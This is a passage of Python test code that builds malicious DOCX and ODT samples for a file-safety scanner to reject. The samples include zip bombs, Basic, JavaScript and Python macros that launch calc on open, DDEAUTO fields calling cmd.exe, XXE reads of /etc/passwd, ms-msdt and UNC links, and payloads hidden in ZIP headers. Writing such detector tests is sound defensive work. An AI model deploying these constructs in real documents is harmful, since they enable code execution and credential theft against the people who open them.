        "docx-doctype-in-content-types",
        "w.docx",
        _docx(
            extra={
                "[Content_Types].xml": '<?xml version="1.0"?><!DOCTYPE Types>'
                + build.content_types()[
                    len('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>') :
                ]
            }
        ),
        DOCX,
        damaged,
    )
    yield Sample(
        "docx-broken-xml",
        "w.docx",
        _docx(extra={"word/document.xml": "<w:document><w:body>"}),
        DOCX,
        damaged,
    )
    yield Sample("docx-no-main-part", "w.docx", _docx(drop=("word/document.xml",)), DOCX, damaged)
    crc = bytearray(plain)
    crc[plain.find(b"word/styles.xml") - 16] ^= 0xFF  # the local header's CRC
    position = plain.rfind(b"word/styles.xml") - 30  # the central directory's CRC
    crc[position] ^= 0xFF
    yield Sample("docx-crc-mismatch", "w.docx", bytes(crc), DOCX, damaged)
    yield Sample(
        "docx-duplicate-names",
        "w.docx",
        _zip_with_duplicate(docx_parts(), "word/document.xml"),
        DOCX,
        damaged,
    )
    yield Sample("docx-truncated", "w.docx", plain[: len(plain) // 2], DOCX, damaged)
    yield Sample(
        "docx-without-content-types",
        "w.docx",
        _docx(drop=("[Content_Types].xml",)),
        OTHER,
        Reason.TYPE,
    )
    yield Sample(
        "xlsx-not-a-word-document",
        "w.docx",
        _docx(main="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
        OTHER,
        Reason.TYPE,
    )


def _zip_with_duplicate(parts: dict[str, bytes | str], name: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for part, content in parts.items():
            archive.writestr(part, content)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            archive.writestr(name, parts[name])
    return buffer.getvalue()


# Zip bombs -------------------------------------------------------------------------------------

MB = 1024 * 1024


@cache
def _bombs() -> list[Sample]:
    unpacked = Reason.UNPACKED
    big_text = "<w:p><w:r><w:t>" + " " * (101 * MB) + "</w:t></w:r></w:p>"
    samples = [
        Sample("docx-bomb-document-past-the-limit", "w.docx", _docx(body=big_text), DOCX, unpacked),
        Sample(
            "docx-bomb-ratio",
            "w.docx",
            _docx(extra={"customXml/item1.xml": "<a>" + " " * (5 * MB) + "</a>"}),
            DOCX,
            unpacked,
        ),
        Sample(
            "docx-bomb-many-entries",
            "w.docx",
            _docx(extra={f"word/media/p{n}.png": b"" for n in range(1001)}),
            DOCX,
            unpacked,
        ),
        Sample(
            "docx-bomb-overall-ratio",
            "w.docx",
            _docx(
                extra={
                    f"customXml/item{n}.xml": "<a>" + " " * (900 * 1024) + "</a>" for n in range(30)
                }
            ),
            DOCX,
            unpacked,
        ),
    ]
    lying = _docx(extra={"customXml/item1.xml": "<a>" + " " * (4 * MB) + "</a>"})
    samples.append(
        Sample(
            "docx-bomb-lying-header",
            "w.docx",
            patch_zip(lying, "customXml/item1.xml", size=1000),
            DOCX,
            unpacked,
        )
    )
    lying_image = _docx(extra={"word/media/big.png": bytes(3 * MB)})
    samples.append(
        Sample(
            "docx-bomb-lying-picture",
            "w.docx",
            patch_zip(lying_image, "word/media/big.png", size=512),
            DOCX,
            unpacked,
        )
    )
    odt_big = odt_parts(extra={"Pictures/big.png": bytes(101 * MB)})
    samples.append(
        Sample("odt-bomb-picture-past-the-limit", "w.odt", zip_of(odt_big), ODT, unpacked)
    )
    return samples


# OpenDocument --------------------------------------------------------------------------------

ON_OPEN = (
    '<office:event-listeners><script:event-listener script:language="ooo:script" '
    'script:event-name="dom:load" xlink:type="simple" xlink:href="vnd.sun.star.script:'
    'Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners>'
)
BASIC = {
    "Basic/script-lc.xml": '<?xml version="1.0"?><library:libraries xmlns:library="http://openoffice'
    '.org/2000/library"><library:library library:name="Standard" library:link="false"/>'
    "</library:libraries>",
    "Basic/Standard/script-lb.xml": '<?xml version="1.0"?><library:library xmlns:library="http://'
    'openoffice.org/2000/library" library:name="Standard"><library:element library:name='
    '"Module1"/></library:library>',
    "Basic/Standard/Module1.xml": '<?xml version="1.0"?><script:module xmlns:script="http://'
    'openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub Main\n'
    '  Shell("cmd.exe /c calc")\nEnd Sub</script:module>',
}


def _odt(**options: object) -> bytes:
    return zip_of(odt_parts(**options))  # type: ignore[arg-type]


def _odt_samples() -> Iterator[Sample]:
    macros = Reason.ODT_MACROS
    scripts_on_open = f"<office:scripts>{ON_OPEN}</office:scripts>"
    yield Sample(
        "odt-basic-macro-on-open",
        "w.odt",
        _odt(content=content_xml(before=scripts_on_open), extra=BASIC),
        ODT,
        macros,
    )
    yield Sample("odt-basic-library-only", "w.odt", _odt(extra=BASIC), ODT, macros)
    yield Sample(
        "odt-basic-lower-case",
        "w.odt",
        _odt(extra={"basic/standard/module1.xml": BASIC["Basic/Standard/Module1.xml"]}),
        ODT,
        macros,
    )
    yield Sample(
        "odt-event-on-open", "w.odt", _odt(content=content_xml(before=scripts_on_open)), ODT, macros
    )
    yield Sample(
        "odt-event-in-styles",
        "w.odt",
        _odt(styles=odf_xml("document-styles", scripts_on_open)),
        ODT,
        macros,
    )
    yield Sample(
        "odt-office-script",
        "w.odt",
        _odt(
            content=content_xml(
                before="<office:scripts><office:script script:language="
                '"ooo:Basic">x</office:script></office:scripts>'
            )
        ),
        ODT,
        macros,
    )
    yield Sample(
        "odt-javascript",
        "w.odt",
        _odt(
            extra={
                "Scripts/javascript/Library1/Macro1.js": b"importClass(Packages.java"
                b".lang.Runtime); Runtime.getRuntime().exec('calc');"
            }
        ),
        ODT,
        macros,
    )
    yield Sample(
        "odt-javascript-on-open",
        "w.odt",
        _odt(
            content=content_xml(
                before=scripts_on_open.replace(
                    "Standard.Module1.Main?language=Basic", "Library1.Macro1.js?language=JavaScript"
                )
            )
        ),
        ODT,
        macros,
    )
    yield Sample(
        "odt-python",
        "w.odt",
        _odt(extra={"Scripts/python/run.py": b"import os; os.system('calc')"}),
        ODT,
        macros,
    )
    yield Sample(
        "odt-dialogs", "w.odt", _odt(extra={"Dialogs/Standard/Dialog1.xml": "<d/>"}), ODT, macros
    )
    yield Sample(
        "odt-macro-signature",
        "w.odt",
        _odt(extra={"META-INF/macrosignatures.xml": "<s/>"}),
        ODT,
        macros,
    )
    yield Sample(
        "odt-link-runs-macro",
        "w.odt",
        _odt(
            content=content_xml(
                ODT_TEXT + '<text:p><text:a xlink:href="vnd.sun.star.'
                "script:Standard.Module1.Main?language=Basic&amp;"
                'location=document">Open</text:a></text:p>'
            )
        ),
        ODT,
        macros,
    )
    yield Sample(
        "odt-link-macro-url",
        "w.odt",
        _odt(
            content=content_xml(
                ODT_TEXT + '<text:p><text:a xlink:href="macro:///'
                'Standard.Module1.Main">Open</text:a></text:p>'
            )
        ),
        ODT,
        macros,
    )
    yield Sample(
        "odt-presentation-event",
        "w.odt",
        _odt(
            content=content_xml(
                ODT_TEXT + "<text:p><draw:frame><office:event-listeners>"
                '<presentation:event-listener script:event-name="dom:'
                'click" presentation:action="execute" xlink:href="x"/>'
                "</office:event-listeners></draw:frame></text:p>"
            )
        ),
        ODT,
        macros,
    )
    yield Sample(
        "odt-form-control-event",
        "w.odt",
        _odt(
            content=content_xml(
                ODT_TEXT,
                before="<office:forms><form:form><form:button "
                'form:name="b" script:event-name="form:performaction"/>'
                "</form:form></office:forms>",
            )
        ),
        ODT,
        macros,
    )

    embedded = Reason.EMBEDDED
    object_ole = (
        '<text:p><draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame></text:p>'
    )
    yield Sample(
        "odt-ole-object",
        "w.odt",
        _odt(content=content_xml(ODT_TEXT + object_ole), extra={"Object 1": VBA}),
        ODT,
        embedded,
    )
    yield Sample(
        "odt-ole-element", "w.odt", _odt(content=content_xml(ODT_TEXT + object_ole)), ODT, embedded
    )
    yield Sample(
        "odt-ole-binary", "w.odt", _odt(extra={"Object 1/oleObject.bin": VBA}), ODT, embedded
    )
    yield Sample(
        "odt-applet",
        "w.odt",
        _odt(
            content=content_xml(
                ODT_TEXT + "<text:p><draw:frame><draw:applet draw:code="
                '"Evil.class"/></draw:frame></text:p>'
            )
        ),
        ODT,
        embedded,
    )
    yield Sample(
        "odt-plugin",
        "w.odt",
        _odt(
            content=content_xml(
                ODT_TEXT + "<text:p><draw:frame><draw:plugin xlink:href="
                '"Media/x.swf"/></draw:frame></text:p>'
            )
        ),
        ODT,
        embedded,
    )
    yield Sample(
        "odt-exe-as-picture", "w.odt", _odt(extra={"Pictures/setup.exe": PE}), ODT, embedded
    )
    yield Sample(
        "odt-media", "w.odt", _odt(extra={"Media/clip.mp4": b"\x00\x00\x00\x18ftyp"}), ODT, embedded
    )
    yield Sample(
        "odt-ole-media-type",
        "w.odt",
        _odt(
            manifest_extra='<manifest:file-entry manifest:full-path="Object 2/" '
            'manifest:media-type="application/vnd.sun.star.oleobject"/>'
        ),
        ODT,
        embedded,
    )

    linked = Reason.LINKED
    for name, href in (
        ("http", "https://198.51.100.7/pixel.png"),
        ("unc", "\\\\198.51.100.7\\share\\logo.png"),
        ("parent", "../../Users/Public/logo.png"),
        ("file", "file:///C:/logo.png"),
    ):
        yield Sample(
            f"odt-linked-image-{name}",
            "w.odt",
            _odt(content=content_xml(ODT_TEXT.replace("Pictures/picture.png", href))),
            ODT,
            linked,
        )
    yield Sample(
        "odt-linked-section",
        "w.odt",
        _odt(
            content=content_xml(
                ODT_TEXT + '<text:section text:name="S"><text:section-'
                'source xlink:href="https://198.51.100.7/s.odt"/>'
                "</text:section>"
            )
        ),
        ODT,
        linked,
    )
    yield Sample(
        "odt-floating-frame",
        "w.odt",
        _odt(
            content=content_xml(
                ODT_TEXT + "<text:p><draw:frame><draw:floating-frame "
                'xlink:href="https://198.51.100.7/"/></draw:frame>'
                "</text:p>"
            )
        ),
        ODT,
        linked,
    )
    yield Sample(
        "odt-dde-connection",
        "w.odt",
        _odt(
            content=content_xml(
                ODT_TEXT,
                before="<text:dde-connection-decls><text:dde-"
                'connection-decl office:name="x" office:dde-application='
                '"cmd" office:dde-topic="/c calc" office:dde-item="a"/>'
                "</text:dde-connection-decls>",
            )
        ),
        ODT,
        linked,
    )
    yield Sample(
        "odt-hyperlink-to-share",
        "w.odt",
        _odt(
            content=content_xml(
                ODT_TEXT.replace("https://www.gov.wales/", "\\\\198.51.100.7\\share\\a.exe")
            )
        ),
        ODT,
        Reason.UNSAFE_LINK,
    )
    yield Sample(
        "odt-remote-font",
        "w.odt",
        _odt(
            styles=odf_xml(
                "document-styles",
                "<office:font-face-decls><style:font-face "
                'style:name="F"><svg:font-face-src><svg:font-face-uri '
                'xlink:href="https://198.51.100.7/f.ttf"/></svg:font-face-src>'
                "</style:font-face></office:font-face-decls>",
            )
        ),
        ODT,
        linked,
    )

    plain = build.odt_bytes()
    odt_damaged = Reason.DAMAGED_ODT
    parts = odt_parts()
    reordered = {name: parts[name] for name in parts if name != "mimetype"}
    reordered["mimetype"] = parts["mimetype"]
    yield Sample("odt-mimetype-not-first", "w.odt", zip_of(reordered), ODT, odt_damaged)
    yield Sample("odt-mimetype-compressed", "w.odt", zip_of(parts, stored=()), ODT, odt_damaged)
    yield Sample(
        "ods-spreadsheet",
        "w.odt",
        _odt(mimetype="application/vnd.oasis.opendocument.spreadsheet"),
        OTHER,
        Reason.TYPE,
    )
    without_manifest = odt_parts()
    del without_manifest["META-INF/manifest.xml"]
    yield Sample("odt-no-manifest", "w.odt", zip_of(without_manifest), ODT, odt_damaged)
    yield Sample(
        "odt-doctype",
        "w.odt",
        _odt(
            content='<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/'
            'passwd">]><office:document-content xmlns:office="urn:oasis:names:tc:'
            'opendocument:xmlns:office:1.0">&e;</office:document-content>'
        ),
        ODT,
        odt_damaged,
    )
    yield Sample(
        "odt-broken-xml", "w.odt", _odt(content="<office:document-content>"), ODT, odt_damaged
    )
    yield Sample(
        "odt-encrypted",
        "w.odt",
        _odt(
            manifest_extra='<manifest:file-entry manifest:full-path="secret.xml" '
            'manifest:media-type="text/xml"><manifest:encryption-data manifest:'
            'checksum-type="SHA1" manifest:checksum="x"/></manifest:file-entry>'
        ),
        ODT,
        Reason.PASSWORD,
    )
    yield Sample("odt-then-html", "w.odt", plain + HTML, ODT, Reason.HIDDEN_DATA)
    yield Sample("odt-then-elf", "w.odt", plain + ELF, ODT, Reason.HIDDEN_DATA)


# ZIP headers that disagree, and data hidden in them ---------------------------------------------


def _raw_docx(changes: Mapping[str, Mapping[str, object]], **extra: bytes | str) -> bytes:
    """A plain Word document written by :func:`build.raw_zip`, with entry options (lies,
    descriptors, extra fields) for the parts named in ``changes``."""
    parts = docx_parts()
    parts.update(extra)
    return raw_zip(
        RawEntry(name, content, **changes.get(name, {}))  # type: ignore[arg-type]
        for name, content in parts.items()
    )


def _raw_odt(changes: Mapping[str, Mapping[str, object]]) -> bytes:
    return raw_zip(
        RawEntry(name, content, deflate=name != "mimetype", **changes.get(name, {}))  # type: ignore[arg-type]
        for name, content in odt_parts().items()
    )


STYLES = "word/styles.xml"


def _zip_header_samples() -> Iterator[Sample]:
    damaged = Reason.DAMAGED_DOCX
    lies: dict[str, Mapping[str, object]] = {
        # The directory says a picture, the local header (what a streaming reader, an
        # antivirus or an older Office believes) says a macro project.
        "name": {"local": {"name": b"word/vbaProject.bin"}},
        "flags": {"local": {"flags": 0x1}},
        "method": {"local": {"method": 0}},
        "crc": {"local": {"crc": 0x12345678}},
        "packed-size": {"local": {"compress_size": 3}},
        "size": {"local": {"file_size": 999_999}},
        "descriptor-crc": {"descriptor": "signed", "descriptor_says": {"crc": 0x12345678}},
        "descriptor-size": {"descriptor": "bare", "descriptor_says": {"file_size": 7}},
        "descriptor-and-other-local-sizes": {"descriptor": "signed", "local": {"file_size": 5}},
    }
    for name, change in lies.items():
        target = "word/media/image9.png" if name == "name" else STYLES
        yield Sample(
            f"docx-local-header-{name}-differs",
            "w.docx",
            _raw_docx({target: change}, **{"word/media/image9.png": VBA}),
            DOCX,
            damaged,
        )
    yield Sample(
        "odt-data-descriptor-lies",
        "w.odt",
        _raw_odt({"content.xml": {"descriptor": "signed", "descriptor_says": {"crc": 1}}}),
        ODT,
        Reason.DAMAGED_ODT,
    )
    yield Sample(
        "odt-local-header-name-differs",
        "w.odt",
        _raw_odt({"styles.xml": {"local": {"name": b"Basic/Module.xml"}}}),
        ODT,
        Reason.DAMAGED_ODT,
    )
    yield Sample(
        "docx-name-with-nul",
        "w.docx",
        _raw_docx({}, **{"word/media/image2.png\x00.exe": png_bytes((3, 3))}),
        DOCX,
        damaged,
    )

    hidden = Reason.HIDDEN_DATA
    payload = PE + b"\x90" * 300 + PHP
    unknown = struct.pack("<HH", 0xCAFE, len(payload)) + payload
    extras: dict[str, Mapping[str, object]] = {
        "unknown-local-extra": {"local_extra": unknown},
        "unknown-central-extra": {"central_extra": unknown},
        "unknown-extra-everywhere-and-comment": {
            "local_extra": unknown,
            "central_extra": unknown,
            "comment": HTML,
        },
        "file-comment": {"comment": HTML},
        "large-timestamp-extra": {
            "local_extra": struct.pack("<HHB", 0x5455, 121, 3) + PHP + bytes(120 - len(PHP))
        },
        "growth-hint-with-payload": {
            "local_extra": struct.pack("<HHHH", 0xA220, 4 + len(payload), 0xA028, len(payload))
            + payload
        },
        "bytes-after-extra-fields": {"local_extra": b"MZ\x90"},
        "extra-field-twice": {
            "local_extra": struct.pack("<HHBI", 0x5455, 5, 1, 0) * 2,
        },
    }
    for name, change in extras.items():
        yield Sample(f"docx-zip-{name}", "w.docx", _raw_docx({STYLES: change}), DOCX, hidden)


# Links that run something when clicked ----------------------------------------------------------

#: Targets of a hyperlink someone clicks that open a program or a file, not a web page.
UNSAFE_LINKS: dict[str, str] = {
    "ms-msdt": "ms-msdt:/id PCWDiagnostic /skip force /param IT_BrowseForFile=x",
    "search-ms": "search-ms:query=invoice&amp;crumb=location:\\\\198.51.100.7\\share",
    "mhtml": "mhtml:http://198.51.100.7/x.mht!x",
    "ms-word": "ms-word:ofe|u|https://198.51.100.7/x.docm",
    "ms-excel": "ms-excel:ofe|u|https://198.51.100.7/x.xlsm",
    "hcp": "hcp://services/search?query=x",
    "javascript": "javascript:alert(document.domain)",
    "libreoffice-command": "vnd.libreoffice.command:.uno:Open?URL=file:///C:/x.exe",
    "drive-backslash": "C:\\Windows\\System32\\calc.exe",
    "drive-slash": "c:/windows/system32/calc.exe",
    "file-upper-case": "FiLe:///c:/windows/system32/calc.exe",
    "unc-after-no-break-space": "\u00a0\\\\198.51.100.7\\share\\a.exe",
    "percent-unc": "%5c%5c198.51.100.7%5cshare%5ca.exe",
    "double-percent-unc": "%255c%255c198.51.100.7%255cshare",
    "percent-scheme": "https%3A//198.51.100.7/a.exe",
    "relative-path": "..\\..\\Windows\\System32\\calc.exe",
    "smb": "smb://198.51.100.7/share/a.exe",
}


def _link_samples() -> Iterator[Sample]:
    unsafe = Reason.UNSAFE_LINK
    for name, target in UNSAFE_LINKS.items():
        yield Sample(
            f"docx-hyperlink-{name}",
            "w.docx",
            _docx(rels=(("rIdBad", "hyperlink", target, "External"),)),
            DOCX,
            unsafe,
        )
        yield Sample(
            f"odt-link-{name}",
            "w.odt",
            _odt(
                content=content_xml(
                    f'{ODT_TEXT}<text:p><text:a xlink:href="{target}">x</text:a></text:p>'
                )
            ),
            ODT,
            Reason.ODT_MACROS if name == "javascript" else unsafe,  # script, to LibreOffice
        )
    yield Sample(
        "odt-picture-link-to-program",
        "w.odt",
        _odt(
            content=content_xml(
                ODT_TEXT + '<text:p><draw:a xlink:href="ms-msdt:/id PCWDiagnostic"><draw:frame>'
                '<draw:image xlink:href="Pictures/picture.png"/></draw:frame></draw:a></text:p>'
            )
        ),
        ODT,
        unsafe,
    )
    made = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space='
        '"preserve"> HYPERLINK "</w:instrText></w:r>'
        + _field_run('QUOTE "file://198.51.100.7/share/a.exe"')[5:-6]
        + '<w:r><w:instrText>"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        "</w:p>"
    )
    yield Sample(
        "docx-hyperlink-field-address-from-nested-field",
        "w.docx",
        _docx(body=DOCX_BODY + made),
        DOCX,
        unsafe,
    )
    for name, instruction in (
        ("drive", 'HYPERLINK "C:\\\\Windows\\\\System32\\\\calc.exe"'),
        ("share", 'HYPERLINK "file://198.51.100.7/share/a.exe" \\o "Guidance"'),
        ("program", "HYPERLINK ms-msdt:/id"),
    ):
        yield Sample(
            f"docx-hyperlink-field-to-{name}",
            "w.docx",
            _docx(body=DOCX_BODY + _field_run(instruction)),
            DOCX,
            unsafe,
        )


# Word: relationships, fields, customUI, parts by their bytes -------------------------------------


def _word_review_samples() -> Iterator[Sample]:
    linked = Reason.LINKED
    remote = "https://198.51.100.7/templates/report.dotm"
    for name, mode in (
        ("leading-space", " External"),
        ("trailing-space", "External "),
        ("tab", "&#9;External"),
        ("upper-case", "EXTERNAL"),
        ("other-word", "Remote"),
    ):
        yield Sample(
            f"docx-remote-template-mode-{name}",
            "w.docx",
            _docx(extra=_settings_with_template(remote, mode)),
            DOCX,
            linked,
        )
    for name, target in (
        ("http", remote),
        ("unc", "\\\\198.51.100.7\\share\\report.dotm"),
        ("double-slash", "//198.51.100.7/share/report.dotm"),
        ("percent-unc", "%5C%5C198.51.100.7%5Cshare%5Creport.dotm"),
        ("file", "file://198.51.100.7/share/report.dotm"),
    ):
        yield Sample(
            f"docx-internal-template-{name}",
            "w.docx",
            _docx(extra=_settings_with_template(target, None)),
            DOCX,
            linked,
        )
    yield Sample(
        "docx-internal-picture-on-share",
        "w.docx",
        _docx(
            rels=(("rIdRemote", "image", "\\\\198.51.100.7\\share\\logo.png"),),
            body=DOCX_BODY.replace('r:embed="rIdImg"', 'r:embed="rIdRemote"'),
        ),
        DOCX,
        linked,
    )

    fields = Reason.FIELDS
    quoted = '"DDEAUTO" c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'.replace('"', "&quot;")
    yield Sample(
        "docx-field-quoted-name",
        "w.docx",
        _docx(body=DOCX_BODY + f'<w:p><w:fldSimple w:instr=" {quoted} "/></w:p>'),
        DOCX,
        fields,
    )
    for name, instruction in (
        ("curly-quoted-name", "\u201cDDEAUTO\u201d c:\\\\windows\\\\system32\\\\cmd.exe"),
        ("name-after-backslash", "\\DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"),
        ("name-after-other-words", 'QUOTE "x" INCLUDETEXT "\\\\\\\\198.51.100.7\\\\a.docx"'),
    ):
        yield Sample(
            f"docx-field-{name}",
            "w.docx",
            _docx(body=DOCX_BODY + _field_run(instruction)),
            DOCX,
            fields,
        )

    def nested(before: str, inner: str, after: str) -> str:
        """An outer field whose instruction is ``before`` {inner field} ``after``."""
        return (
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f'<w:r><w:instrText xml:space="preserve">{before}</w:instrText></w:r>'
            + _field_run(inner)[5:-6]
            + f'<w:r><w:instrText xml:space="preserve">{after}</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        )

    command = ' c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '
    for name, body in (
        # QUOTE with character codes spells DDEAUTO: the outer field's name is the result.
        ("name-from-nested-field", nested("", "QUOTE 68 68 69 65 85 84 79", command)),
        ("name-from-nested-field-after-space", nested("  ", "QUOTE 68 68 69 65 85 84 79", command)),
        ("name-from-nested-quote", nested("", 'QUOTE "DDEAUTO"', command)),
        ("name-glued-to-nested-field", nested(" DD", "QUOTE 69 65", "UTO" + command)),
    ):
        yield Sample(f"docx-field-{name}", "w.docx", _docx(body=DOCX_BODY + body), DOCX, fields)
    deleted = (
        '<w:p><w:del w:id="1" w:author="Rhys Example" w:date="2026-03-27T09:30:00Z"><w:r>'
        '<w:fldChar w:fldCharType="begin"/></w:r><w:r><w:delInstrText xml:space="preserve"> '
        f'{DDE} </w:delInstrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        "</w:del></w:p>"
    )
    yield Sample(
        "docx-field-in-deleted-text", "w.docx", _docx(body=DOCX_BODY + deleted), DOCX, fields
    )

    macro = Reason.DOCX_MACROS
    ribbon = (
        '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="Go">'
        "<ribbon/></customUI>"
    )
    root_with_ribbon = relationships(
        ("rId1", "officeDocument", "word/document.xml"),
        (
            "rId9",
            "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility",
            "word/ribbon.xml",
        ),
    )
    yield Sample(
        "docx-custom-ui-under-another-name",
        "w.docx",
        _docx(extra={"_rels/.rels": root_with_ribbon, "word/ribbon.xml": ribbon}),
        DOCX,
        macro,
    )
    for name, kind in (
        ("2007", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility"),
        (
            "user-customization",
            "http://schemas.microsoft.com/office/2006/relationships/ui/userCustomization",
        ),
    ):
        yield Sample(
            f"docx-custom-ui-relationship-{name}",
            "w.docx",
            _docx(rels=(("rIdUi", kind, "ribbon.xml"),)),
            DOCX,
            macro,
        )
    yield Sample(
        "docx-custom-ui-part-only",
        "w.docx",
        _docx(
            extra={
                "word/glossary/extra.xml": ribbon.replace("2006/01/customui", "2009/07/customui")
            }
        ),
        DOCX,
        macro,
    )

    embedded = Reason.EMBEDDED
    parts: dict[str, tuple[str, bytes | str]] = {
        "ole-as-picture": ("word/media/image9.png", VBA),
        "exe-as-metafile": ("word/media/image2.emf", PE),
        "elf-as-picture": ("word/media/image3.jpeg", ELF),
        "web-page-as-picture": ("word/media/image4.gif", HTML),
        "nothing-as-picture": ("word/media/image5.png", b""),
        "exe-as-printer-settings": ("word/printerSettings/printerSettings1.bin", PE),
        "exe-as-font": ("word/fonts/font1.ttf", PE),
        "junk-as-font": ("word/fonts/font2.otf", JUNK),
        "undeclared-scrambled-font": ("word/fonts/font3.odttf", build.TTF),
        "exe-as-signature": ("_xmlsignatures/origin.sigs", PE),
        "exe-as-xml": ("customXml/item9.xml", PE),
        "ole-as-xml": ("word/glossary/document.xml", VBA),
        "svg-with-script": ("word/media/image6.svg", build.svg("<script>alert(1)</script>")),
        "svg-event-handler": (
            "word/media/image6.svg",
            build.svg('<rect width="1" height="1"/>', attributes='onload="alert(1)"'),
        ),
        "svg-foreign-object": (
            "word/media/image6.svg",
            build.svg(
                '<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>'
            ),
        ),
        "svg-that-is-a-web-page": ("word/media/image6.svg", HTML),
    }
    for name, (part, content) in parts.items():
        yield Sample(f"docx-{name}", "w.docx", _docx(extra={part: content}), DOCX, embedded)
    yield Sample(
        "docx-svg-remote-picture",
        "w.docx",
        _docx(
            extra={
                "word/media/image6.svg": build.svg(
                    '<image xlink:href="https://198.51.100.7/pixel.png" width="1" height="1"/>'
                )
            }
        ),
        DOCX,
        linked,
    )
    yield Sample(
        "docx-svg-remote-style-sheet",
        "w.docx",
        _docx(
            extra={
                "word/media/image6.svg": '<?xml version="1.0"?><?xml-stylesheet href="https://'
                '198.51.100.7/s.css"?><svg xmlns="http://www.w3.org/2000/svg"/>'
            }
        ),
        DOCX,
        linked,
    )
    yield Sample(
        "docx-svg-link-to-program",
        "w.docx",
        _docx(extra={"word/media/image6.svg": build.svg('<a href="ms-msdt:/id x"><rect/></a>')}),
        DOCX,
        Reason.UNSAFE_LINK,
    )
    yield Sample(
        "docx-svg-entity",
        "w.docx",
        _docx(
            extra={
                "word/media/image6.svg": '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM '
                '"file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text>'
                "</svg>"
            }
        ),
        DOCX,
        Reason.DAMAGED_DOCX,
    )


# OpenDocument: macros at any depth, parts by their bytes -----------------------------------------

LIBRARIES = (
    '<?xml version="1.0" encoding="UTF-8"?><library:libraries xmlns:library="http://openoffice.org'
    '/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name='
    '"Standard" library:link="false"/></library:libraries>'
)
DIALOG = (
    '<?xml version="1.0" encoding="UTF-8"?><dlg:window xmlns:dlg="http://openoffice.org/2000/'
    'dialog" xmlns:script="http://openoffice.org/2000/script" dlg:id="Dialog1"><dlg:bulletinboard>'
    '<dlg:button dlg:id="b"><script:event script:event-name="on-performaction" script:macro-name='
    '"vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document" '
    'script:language="Script"/></dlg:button></dlg:bulletinboard></dlg:window>'
)


def _odt_review_samples() -> Iterator[Sample]:
    macros = Reason.ODT_MACROS
    module = BASIC["Basic/Standard/Module1.xml"]
    object_parts = {
        "Object 1/content.xml": odf_xml("document-content", ""),
        "Object 1/styles.xml": odf_xml("document-styles", "<office:styles/>"),
    }
    for name, extra in (
        (
            "basic-inside-an-object",
            {
                **object_parts,
                "Object 1/Basic/Standard/Module1.xml": module,
                "Object 1/Basic/script-lc.xml": LIBRARIES,
            },
        ),
        ("basic-in-configurations", {"Configurations2/basic/Module1.xml": module}),
        ("scripts-inside-an-object", {**object_parts, "Object 1/Scripts/python/run.py": b"x"}),
        ("dialogs-inside-an-object", {**object_parts, "Object 1/Dialogs/Standard/D.xml": DIALOG}),
        ("script-library-list-elsewhere", {"Configurations2/script-lc.xml": LIBRARIES}),
        ("dialog-library-list-elsewhere", {**object_parts, "Object 1/dialog-lc.xml": LIBRARIES}),
        ("basic-module-under-another-name", {"Configurations2/module.xml": module}),
        ("dialog-under-another-name", {**object_parts, "Object 1/settings.xml": DIALOG}),
    ):
        yield Sample(f"odt-{name}", "w.odt", _odt(extra=extra), ODT, macros)
    yield Sample(
        "odt-execute-macro",
        "w.odt",
        _odt(
            content=content_xml(
                ODT_TEXT + '<text:p><text:execute-macro text:name="Main">Run</text:execute-macro>'
                "</text:p>"
            )
        ),
        ODT,
        macros,
    )

    embedded = Reason.EMBEDDED
    for name, part, content in (
        ("exe-as-chart-replacement", "ObjectReplacements/Object 1", PE),
        ("ole-as-chart-replacement", "ObjectReplacements/Object 2", VBA),
        ("junk-as-chart-replacement", "ObjectReplacements/Object 3", JUNK),
        ("ole-as-picture", "Pictures/10000000000000.png", VBA),
        ("elf-as-thumbnail", "Thumbnails/thumbnail.png", ELF),
        ("exe-as-font", "Fonts/Gentium.ttf", PE),
        ("exe-as-layout-cache", "layout-cache", PE),
        ("exe-as-xml", "Object 1/content.xml", PE),
        ("svg-with-script", "Pictures/drawing.svg", build.svg("<script>alert(1)</script>")),
    ):
        yield Sample(f"odt-{name}", "w.odt", _odt(extra={part: content}), ODT, embedded)


# Pictures ------------------------------------------------------------------------------------


def _insert_after_header(png: bytes, chunk: bytes) -> bytes:
    """``chunk`` right after the PNG's IHDR chunk (8-byte signature + 25-byte IHDR)."""
    return png[:33] + chunk + png[33:]


def _jpeg_segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + (len(payload) + 2).to_bytes(2, "big") + payload


@cache
def _picture_samples() -> list[Sample]:
    trailer = Reason.IMAGE_TRAILER
    png = png_bytes()
    pictures: dict[str, tuple[bytes, str]] = {
        "png": (png, PNG),
        "png-palette": (png_bytes(mode="P"), PNG),
        "jpeg": (jpeg_bytes(), JPEG),
        "jpeg-progressive": (jpeg_bytes(progressive=True), JPEG),
        "jpeg-exif-thumbnail": (jpeg_with_thumbnail(), JPEG),
    }
    samples: list[Sample] = []
    for picture, (data, kind) in pictures.items():
        extension = "png" if kind == PNG else "jpg"
        for name, payload in PAYLOADS.items():
            if picture in ("png-palette", "jpeg-progressive") and name not in ("html", "zip"):
                continue
            samples.append(
